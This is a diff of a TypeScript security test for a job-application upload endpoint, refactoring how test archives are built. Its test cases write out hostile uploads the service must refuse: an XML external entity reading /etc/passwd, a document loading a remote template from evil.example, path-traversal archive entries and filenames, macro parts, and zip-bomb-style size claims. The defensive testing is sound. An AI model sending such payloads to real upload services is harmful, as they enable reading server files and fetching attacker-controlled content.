@@ -1,27 +1,17 @@
-import { makeZip } from 'client-zip'
 import { newApplicant, newEnquiry } from '../support/answers.ts'
 import { expect, test } from '../support/attack-test.ts'
 import type { Answer, Ask } from '../support/attacker.ts'
 import { pdf } from '../support/files.ts'
 import { mailsAbout } from '../support/outbox.ts'
+import { type ZipEntry, zipOf } from '../support/zip.ts'
 
 /** OWASP ASVS 5.0, V1.2 Injection Prevention, V5.2 File Upload: what strangers send to the company. */
 const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
-const TYPES = { name: '[Content_Types].xml', input: `<Types><Override ContentType="${WORD}"/></Types>` }
-const DOCUMENT = { name: 'word/document.xml', input: '<w:document/>' }
+const TYPES = { name: '[Content_Types].xml', text: `<Types><Override ContentType="${WORD}"/></Types>` }
+const DOCUMENT = { name: 'word/document.xml', text: '<w:document/>' }
 const cv = pdf('cv.pdf').buffer
 
-type Entry = typeof TYPES
-
-const zipOf = async (...entries: Entry[]) => Buffer.from(await new Response(makeZip(entries)).arrayBuffer())
-const docx = (...entries: Entry[]) => zipOf(TYPES, DOCUMENT, ...entries)
-
-/** The directory's word for the size of its first entry. */
-function claiming(size: number, archive: Buffer): Buffer {
-  const entry = archive.indexOf('PK\x01\x02')
-  archive.writeUInt32LE(size, entry + 24)
-  return archive
-}
+const docx = (...entries: ZipEntry[]) => zipOf(TYPES, DOCUMENT, ...entries)
 
 interface Sent {
   name?: string
@@ -56,34 +46,40 @@ test('a CV is what its name says, whole, and runs nothing', { tag: '@full' }, as
     'a PDF as a page': ['cv.html', cv],
     'a PDF as a document': ['cv.docx', cv],
     'a name without an extension': ['cv', cv],
-    'a document of macros': ['cv.docx', await docx({ name: 'word/vbaProject.bin', input: 'x' })],
-    'a document that leaves its folder': ['cv.docx', await docx({ name: '../../evil', input: 'x' })],
+    'a document of macros': ['cv.docx', docx({ name: 'word/vbaProject.bin', text: 'x' })],
+    'a document that leaves its folder': ['cv.docx', docx({ name: '../../evil', text: 'x' })],
     'a document that reads a file': [
       'cv.docx',
-      await docx({ name: 'a.rels', input: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
+      docx({ name: 'a.rels', text: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
     ],
     'a document with a template from elsewhere': [
       'cv.docx',
-      await docx({
+      docx({
         name: 'word/_rels/settings.xml.rels',
-        input: '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example" TargetMode="External"/>',
+        text: '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example" TargetMode="External"/>',
       }),
     ],
     'a document of 2,000 parts': [
       'cv.docx',
-      await docx(...Array.from({ length: 2000 }, (_, n) => ({ name: `${n}`, input: '' }))),
+      docx(...Array.from({ length: 2000 }, (_, n) => ({ name: `${n}`, text: '' }))),
     ],
-    'a document of 2 GiB, by its own word': ['cv.docx', claiming(2 ** 31, await docx())],
-    'a document that is cut off': ['cv.docx', (await docx()).subarray(0, -30)],
-    'an archive that is no document': ['cv.docx', await zipOf({ name: 'a', input: 'x' })],
+    'a document of 2 GiB, by its own word': ['cv.docx', docx({ name: 'a', text: 'a', claimedSize: 2 ** 31 })],
+    'a document that is cut off': ['cv.docx', docx().subarray(0, -30)],
+    'an archive that is no document': ['cv.docx', zipOf({ name: 'a', text: 'x' })],
     'an old document that is cut off': ['cv.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
   }
   for (const [what, [name, bytes]] of Object.entries(bad)) {
     const answer = await apply(ask, { name, bytes })
     expect.soft(answer.status, `${what}: ${answer.text}`).toBe(415)
   }
-  for (const name of ['cv.pdf', 'CV.PDF', '../../cv.pdf', 'C:\\fakepath\\cv.pdf']) {
-    expect.soft((await apply(ask, { name })).status, name).toBe(201)
+  for (const [name, bytes] of [
+    ['CV.PDF', cv],
+    ['../../cv.pdf', cv],
+    ['C:\\fakepath\\cv.pdf', cv],
+    // The archives above are refused for what was put into this one.
+    ['cv.docx', docx()],
+  ] as const) {
+    expect.soft((await apply(ask, { name, bytes })).status, name).toBe(201)
   }
 })
 
